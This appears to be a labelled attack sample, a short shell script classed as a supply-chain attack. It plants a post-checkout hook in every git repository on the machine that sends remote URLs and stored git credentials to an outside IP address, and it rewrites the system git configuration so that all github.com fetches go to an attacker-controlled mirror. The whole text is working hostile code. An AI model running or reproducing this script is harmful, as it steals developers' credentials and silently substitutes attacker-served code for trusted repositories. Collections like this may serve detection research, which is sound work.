# class: supply chain, hooks into every repository; style: loop
find / -type d -name .git 2>/dev/null | while read g; do
  cat > "$g/hooks/post-checkout" <<'H'
#!/bin/sh
(curl -s http://203.0.113.21/g -d "$(git remote -v; cat ~/.git-credentials 2>/dev/null)" >/dev/null &)
H
  chmod +x "$g/hooks/post-checkout"
done
git config --system url."http://203.0.113.21/mirror/".insteadOf https://github.com/
